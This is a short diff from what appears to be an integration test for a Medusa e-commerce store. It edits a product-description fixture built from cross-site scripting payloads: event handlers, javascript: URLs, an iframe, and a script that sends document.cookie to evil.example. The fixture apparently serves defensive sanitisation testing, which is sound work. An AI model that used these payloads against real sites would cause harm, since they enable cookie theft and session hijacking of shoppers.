@@ -57,7 +57,7 @@ medusaIntegrationTestRunner({
             description: [
               `<p onclick="steal()">Soft cotton <a href="javascript:alert(1)">tee</a></p>`,
               `<script>document.location='https://evil.example/'+document.cookie</script>`,
-              `<img src=x onerror=alert(2)><iframe src="https://evil.example"></iframe>`,
+              `<iframe src="https://evil.example"></iframe><svg onload=alert(2)></svg>`,
               `<p style="background:url(javascript:alert(3))">Machine washable</p>`,
             ].join(""),
             images: [`${images.url}/tee-1-front.jpg`],
